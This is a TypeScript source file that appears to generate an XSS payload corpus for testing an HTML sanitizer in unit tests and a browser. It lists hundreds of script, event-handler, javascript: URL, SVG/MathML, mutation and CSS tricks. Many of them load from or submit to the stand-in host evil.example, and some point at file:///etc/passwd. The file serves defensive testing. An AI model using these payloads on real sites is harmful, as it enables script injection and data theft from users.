// HTML that tries to run a script, to leave the page or to speak to other hosts, made from families of tricks. The same list goes through the
// unit tests and a real browser.

export interface Payload {
  readonly name: string;
  readonly html: string;
}

/** Every payload; each calls `code`, which has neither quotes nor blanks, where it gets as far as to run. */
export function payloadsWith(code = 'fired()'): readonly Payload[] {
  return families(code).flatMap(([family, list]) =>
    list.map((html, i) => ({ name: `${family} ${i + 1}`, html })),
  );
}

type Family = readonly [name: string, payloads: readonly string[]];

function families(code: string): readonly Family[] {
  return [
    ['scripts', scripts(code)],
    ['handlers', handlers(code)],
    ['handler spellings', handlerSpellings(code)],
    ['addresses', addresses(code)],
    ['documents in documents', documents(code)],
    ['svg', svg(code)],
    ['math', math(code)],
    ['changes of parsing', mutations(code)],
    ['styles', styles(code)],
    ['meta and links', metas(code)],
    ['forms', forms(code)],
    ['pictures', pictures(code)],
    ['scripts of libraries', gadgets(code)],
  ];
}

function scripts(code: string): readonly string[] {
  return [
    `<script>${code}</script>`,
    `<SCRIPT>${code}</SCRIPT>`,
    `<script >${code}</script >`,
    `<script\n>${code}</script\n>`,
    `<script/x>${code}</script>`,
    `<script type=module>${code}</script>`,
    `<script type="text/ecmascript">${code}</script>`,
    `<script src="data:text/javascript,${code}"></script>`,
    `<script src="//evil.example/x.js"></script>`,
    `<script>${code}`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<<script>${code}</script>`,
    `<script><!--\n${code}\n--></script>`,
    `<p><script>${code}</script></p>`,
    `<table><script>${code}</script></table>`,
    `<select><script>${code}</script></select>`,
    `<title></title><script>${code}</script>`,
    `</body></html><script>${code}</script>`,
    `<script async defer>${code}</script>`,
    `<script for=window event=onload>${code}</script>`,
  ];
}

const handlerPlaces: readonly (readonly [handler: string, before: string, after: string])[] = [
  ['onerror', '<img src=x ', '>'],
  ['onload', '<body ', '>'],
  ['onload', '<svg ', '>'],
  ['onload', '<style ', '></style>'],
  ['onerror', '<video><source ', '></video>'],
  ['onerror', '<audio src=x ', '></audio>'],
  ['onloadstart', '<video src="data:video/mp4,x" ', '></video>'],
  ['onfocus', '<input autofocus ', '>'],
  ['onfocus', '<a href=# tabindex=1 autofocus ', '>x</a>'],
  ['onblur', '<input autofocus ', '><input autofocus>'],
  ['ontoggle', '<details open ', '><summary>x</summary></details>'],
  ['onstart', '<marquee ', '>x</marquee>'],
  ['onpageshow', '<body ', '>'],
  ['onhashchange', '<body ', '><a href=#x>x</a>'],
  ['onscroll', '<body ', '><p style="height:9999px"></p><input autofocus>'],
  ['onmessage', '<body ', '>'],
  ['onanimationstart', '<style>@keyframes x{}</style><p style="animation-name:x" ', '>x</p>'],
  ['onanimationend', '<style>@keyframes x{}</style><p style="animation:x 1ms" ', '>x</p>'],
  ['ontransitionend', '<p style="transition:color 1ms" ', '>x</p>'],
  ['onclick', '<p ', '>x</p>'],
  ['onmouseover', '<b ', '>x</b>'],
  ['onpointerenter', '<i ', '>x</i>'],
  ['oncopy', '<div contenteditable ', '>x</div>'],
  ['onbeforetoggle', '<div popover ', '>x</div>'],
  ['oncontentvisibilityautostatechange', '<p style="content-visibility:auto" ', '>x</p>'],
  ['onformdata', '<form ', '><input></form>'],
  ['oninvalid', '<form><input required ', '></form>'],
  ['onsubmit', '<form ', '><button>x</button></form>'],
  ['onsecuritypolicyviolation', '<p ', '>x</p>'],
  ['onerror', '<link rel=stylesheet href=x ', '>'],
  ['onload', '<iframe ', '></iframe>'],
  ['onerror', '<object data=x ', '></object>'],
  ['onload', '<embed src=x ', '>'],
];

function handlers(code: string): readonly string[] {
  return handlerPlaces.map(([handler, before, after]) => `${before}${handler}="${code}"${after}`);
}

function handlerSpellings(code: string): readonly string[] {
  const around = (attribute: string): string => `<img src=x ${attribute}>`;
  return [
    around(`ONERROR=${code}`),
    around(`oNeRrOr='${code}'`),
    around(`onerror\n=\n"${code}"`),
    around(`/onerror=${code}/`),
    around(`alt="a"onerror="${code}"`),
    around(`onerror=&#${code.charCodeAt(0)};${code.slice(1)}`),
    around(`onerror=&#x${code.charCodeAt(0).toString(16)};${code.slice(1)}`),
    around(`x=\`\` onerror=${code}`),
    around(`"onerror=${code}`),
    around(`'onerror=${code}`),
    around(`=onerror=${code} onerror=${code}`),
    around(`alt=\u0000 onerror=${code}`),
    around(`\u000Conerror=${code}`),
    `<img/src=x/onerror=${code}>`,
    `<img src=x onerror=${code}//`,
    `<img src="x" onerror="${code}" onerror="y">`,
    `<x onclick=${code} tabindex=1 onfocus=${code} autofocus>x`,
    `<p-q onanimationstart=${code}>x</p-q>`,
    `<image src=x onerror=${code}>`,
    `<a"b onfocus=${code} tabindex=0 autofocus>x</a"b>`,
  ];
}

function addresses(code: string): readonly string[] {
  const urls = [
    `javascript:${code}`,
    `JaVaScRiPt:${code}`,
    ` javascript:${code}`,
    `\u0001javascript:${code}`,
    `java\tscript:${code}`,
    `java\nscript:${code}`,
    `java\r\nscript:${code}`,
    `javascript\t:${code}`,
    `&#106;avascript:${code}`,
    `&#x6A;avascript:${code}`,
    `&#0000106avascript:${code}`,
    `java&Tab;script:${code}`,
    `java&NewLine;script&colon;${code}`,
    `javascript&colon;${code}`,
    `javascript://%0a${code}`,
    `javascript:/*https://a.example/*/${code}`,
    `vbscript:${code}`,
    `livescript:${code}`,
    `data:text/html,<script>${code}</script>`,
    `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
    `DATA:text/html,<script>${code}</script>`,
    `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${code}</script>`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
    `blob:https://site.example/x`,
    `view-source:javascript:${code}`,
    `filesystem:https://site.example/x`,
    `file:///etc/passwd`,
    `vscode://command/x`,
    `command:workbench.action.x`,
  ];
  const places = (url: string): readonly string[] => [
    `<a href="${url}">x</a>`,
    `<form action="${url}"><button>x</button></form>`,
  ];
  return [
    ...urls.flatMap(places),
    ...urls
      .slice(0, 4)
      .flatMap((url) => [
        `<area shape=default href="${url}">`,
        `<iframe src="${url}"></iframe>`,
        `<embed src="${url}">`,
        `<object data="${url}"></object>`,
        `<button formaction="${url}">x</button>`,
        `<input type=submit formaction="${url}">`,
        `<img src="${url}">`,
        `<link rel=stylesheet href="${url}">`,
        `<body background="${url}">`,
        `<base href="${url}/"><a href=x>x</a>`,
        `<video src="${url}" poster="${url}"></video>`,
        `<svg><a href="${url}"><text>x</text></a></svg>`,
      ]),
  ];
}

function documents(code: string): readonly string[] {
  return [
    `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=parent.${code}&gt;"></iframe>`,
    `<iframe src="//evil.example/"></iframe>`,
    `<frameset><frame src="javascript:${code}"></frameset>`,
    `<object type="text/html" data="data:text/html,<script>${code}</script>"></object>`,
    `<object><param name=src value="javascript:${code}"></object>`,
    `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=${code}>">`,
    `<applet code="javascript:${code}"></applet>`,
    `<portal src="javascript:${code}"></portal>`,
    `<fencedframe src="//evil.example/"></fencedframe>`,
    `<template><script>${code}</script></template>`,
    `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
    `<noscript><img src=x onerror=${code}></noscript>`,
    `<isindex action=javascript:${code} type=image>`,
    `<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script></xml>`,
  ];
}

function svg(code: string): readonly string[] {
  return [
    `<svg><script>${code}</script></svg>`,
    `<svg><script href="data:,${code}"/></svg>`,
    `<svg><script xlink:href="data:,${code}"></script></svg>`,
    `<svg><style><img src=x onerror=${code}></style></svg>`,
    `<svg><foreignObject><img src=x onerror=${code}></foreignObject></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${code}</script>"></iframe></foreignObject></svg>`,
    `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${code} /><text y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=xlink:href from=javascript:${code} to=x begin=0s /><text y=20>x</text></a></svg>`,
    `<svg><a><set attributeName="href" to="javascript:${code}"/><text y=20>x</text></a></svg>`,
    `<svg><set attributeName=onload to=${code} /></svg>`,
    `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
    `<svg><animate attributeName=style values="x" onend=${code}></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${code}'/></svg>#x"/></svg>`,
    `<svg><use href="//evil.example/x.svg#x"/></svg>`,
    `<svg><image href=x onerror=${code}></svg>`,
    `<svg><image xlink:href="javascript:${code}"></svg>`,
    `<svg><feImage href="javascript:${code}"></svg>`,
    `<svg><handler type="text/javascript">${code}</handler></svg>`,
    `<svg><discard onbegin=${code}></svg>`,
    `<svg><rect fill="url(//evil.example/x.svg#y)" width=9 height=9></svg>`,
    `<svg><title><img src=x onerror=${code}></title></svg>`,
    `<svg><desc><script>${code}</script></desc></svg>`,
    `<svg><p><style><!--</style><img src=x onerror=${code}>--></style></svg>`,
    `<svg xmlns:xlink="x" onload=${code}></svg>`,
    `<svg/onload=${code}>`,
    `<svg><![CDATA[><img src=x onerror=${code}>]]></svg>`,
    `<svg><a xml:base="javascript:" href="${code}"><text>x</text></a></svg>`,
  ];
}

function math(code: string): readonly string[] {
  return [
    `<math href="javascript:${code}">x</math>`,
    `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
    `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${code}">x</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${code}></annotation-xml></math>`,
    `<math><mtext><img src=x onerror=${code}></mtext></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
    `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${code} src>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    `<math><mtext></p><style><a title="</style><img src=x onerror=${code}>">`,
    `<math><annotation-xml encoding="application/xhtml+xml"><svg><script>${code}</script></svg></annotation-xml></math>`,
  ];
}

function mutations(code: string): readonly string[] {
  const image = `<img src=x onerror=${code}>`;
  const late = `<img title="</NAME>${image}">`;
  const raw = [
    'noscript',
    'style',
    'title',
    'textarea',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'template',
    'plaintext',
  ];
  return [
    ...raw.map((name) => `<${name}>${late.replace('NAME', name)}`),
    ...raw.map((name) => `<svg></p><${name}><a id="</${name}>${image}">`),
    ...raw.map((name) => `<math><${name}><a id="</${name}>${image}"></a></${name}></math>`),
    `<!--><img src=x onerror=${code}>-->`,
    `<!--!><img src=x onerror=${code}>--!>`,
    `<!-- --!>${image}<!-- -->`,
    `<!--[if IE]>${image}<![endif]-->`,
    `<![CDATA[${image}]]>`,
    `<?xml ${image} ?>`,
    `<a id="\`>${image}">`,
    `<p id='"><img src=x onerror=${code}>'>x</p>`,
    `<textarea>&lt;/textarea&gt;${image}</textarea>`,
    `<select><option><style></option></select>${image}</style>`,
    `<table><td><form><table><caption><form>${image}</table>`,
    `<form id=a></form><input name=attributes form=a><form><input name=childNodes>${image}</form>`,
    `<div id="x"><a href="javascript:${code}"><b></a></div>${image}`,
    `&lt;script&gt;${code}&lt;/script&gt;${image}`,
    `<b><p></b>${image}`,
    `<listing>&lt;img src=x onerror=${code}&gt;</listing>${image}`,
    `\u0000<img src=x onerror=${code}>`,
    `+ADw-script+AD4-${code}+ADw-/script+AD4-<meta charset=utf-7>`,
  ];
}

function styles(code: string): readonly string[] {
  return [
    `<style>@import "//evil.example/x.css";</style>`,
    `<style>@import url(//evil.example/x.css);</style>`,
    `<style>@IMPORT url("https://evil.example/x.css") screen;</style>`,
    `<style>@\\69mport "https://evil.example/x.css";</style>`,
    `<style>p{background:url(//evil.example/x.png)}</style>`,
    `<style>p{background:URL( "https://evil.example/x.png" )}</style>`,
    `<style>p{background:u\\72l(https://evil.example/x.png)}</style>`,
    `<style>p{background:\\75\\72\\6c(https://evil.example/x.png)}</style>`,
    `<style>p{background:url(https\\3a//evil.example/x.png)}</style>`,
    `<style>p{background:url(/**/https://evil.example/x.png)}</style>`,
    `<style>p{background:image-set("https://evil.example/x.png" 1x)}</style>`,
    `<style>p{background:-webkit-image-set(url(https://evil.example/x.png) 1x)}</style>`,
    `<style>p{background:url(javascript:${code})}</style>`,
    `<style>p{width:expression(${code})}</style>`,
    `<style>p{behavior:url(#default#time2)}</style>`,
    `<style>p{-moz-binding:url(//evil.example/x.xml#y)}</style>`,
    `<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>`,
    `<style>a[href^="x"]{background:url(https://evil.example/?x)}</style>`,
    `<style>p{content:"</style><img src=x onerror=${code}>"}</style>`,
    `<style>/*</style><img src=x onerror=${code}>*/</style>`,
    `<style>p{background:url("data:text/html,<script>${code}</script>")}</style>`,
    `<p style="background:url(//evil.example/x.png)">x</p>`,
    `<p style="background:u\\rl(https://evil.example/x.png)">x</p>`,
    `<p style="width:expression(${code})">x</p>`,
    `<p style="background-image:url(&quot;javascript:${code}&quot;)">x</p>`,
    `<p style="--x:url(https://evil.example/x.png);background:var(--x)">x</p>`,
    `<p style='cursor:url("https://evil.example/x.cur"),auto'>x</p>`,
    `<style>p{background:url(//evil.example/x.png</style>`,
  ];
}

function metas(code: string): readonly string[] {
  return [
    `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
    `<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
    `<META HTTP-EQUIV="Refresh" CONTENT="0;URL=data:text/html,<script>${code}</script>">`,
    `<meta name=viewport http-equiv=refresh content="0;url=https://evil.example/">`,
    `<meta charset=utf-8 http-equiv=refresh content="0;url=https://evil.example/">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<meta http-equiv="Set-Cookie" content="a=b">`,
    `<base href="https://evil.example/">`,
    `<base target=_top><a href="/x">x</a>`,
    `<link rel=import href="//evil.example/x.html">`,
    `<link rel="stylesheet" href="https://evil.example/x.css">`,
    `<link rel="alternate stylesheet" href="https://evil.example/x.css">`,
    `<link rel=prefetch href="https://evil.example/">`,
    `<link rel=preconnect href="https://evil.example/">`,
    `<link rel=modulepreload href="//evil.example/x.js">`,
    `<link rel=preload as=script href="//evil.example/x.js">`,
    `<link rel=manifest href="//evil.example/x">`,
    `<link rel=icon href="//evil.example/x.ico">`,
    `<html manifest="//evil.example/x">`,
  ];
}

function forms(code: string): readonly string[] {
  return [
    `<form action="https://evil.example/"><input name=x><button>x</button></form>`,
    `<form id=f action=javascript:${code}></form><button form=f>x</button>`,
    `<form><button formaction=javascript:${code}>x</button></form>`,
    `<form><input type=image src=x formaction=javascript:${code}></form>`,
    `<form method=post action="//evil.example/" target=_top><input type=submit></form>`,
    `<button form=f formaction="https://evil.example/" formmethod=post>x</button>`,
    `<a href="https://evil.example/" target=_top>x</a>`,
    `<a href="https://evil.example/" ping="https://evil.example/ping" download>x</a>`,
  ];
}

function pictures(code: string): readonly string[] {
  return [
    `<img src="https://evil.example/x.png">`,
    `<img src="//evil.example/x.png">`,
    `<img src="\\\\evil.example\\x.png">`,
    `<img src="https:evil.example/x.png">`,
    `<img srcset="https://evil.example/x.png 1x, //evil.example/y.png 2x">`,
    `<img srcset="x.png,https://evil.example/y.png">`,
    `<img srcset=",https://evil.example/x.png 2x">`,
    `<img srcset="javascript:${code} 1x">`,
    `<img lowsrc="javascript:${code}" dynsrc="javascript:${code}">`,
    `<picture><source srcset="https://evil.example/x.webp"><img src=x></picture>`,
    `<video poster="https://evil.example/x.png"></video>`,
    `<video><source src="https://evil.example/x.mp4"></video>`,
    `<audio autoplay src="https://evil.example/x.mp3"></audio>`,
    `<video><track default src="https://evil.example/x.vtt"></video>`,
    `<input type=image src="https://evil.example/x.png">`,
    `<table background="https://evil.example/x.png"><td background="//evil.example/y.png">x</table>`,
    `<img attributionsrc="https://evil.example/x" src=x>`,
    `<link rel=preload as=image imagesrcset="https://evil.example/x.png">`,
    `<img src="data:text/html,<script>${code}</script>">`,
    `<svg><image href="https://evil.example/x.png"/></svg>`,
  ];
}

/** Attributes that the site's own libraries would run, and names that stand in the way of a sanitizer. */
function gadgets(code: string): readonly string[] {
  return [
    `<div x-data x-init="${code}">x</div>`,
    `<div @click="${code}">x</div>`,
    `<div v-on:click="${code}">x</div>`,
    `<div ng-app ng-init="${code}">x</div>`,
    `<div data-source="file:///etc/passwd" data-href="javascript:${code}" data-line="x">x</div>`,
    `<form><input name=parentNode><input name=removeChild></form>`,
    `<img name=body><img name=cookie><a id=defaultView href="javascript:${code}">x</a>`,
    `<a data-source="file:///x" href="javascript:${code}">x</a>`,
  ];
}
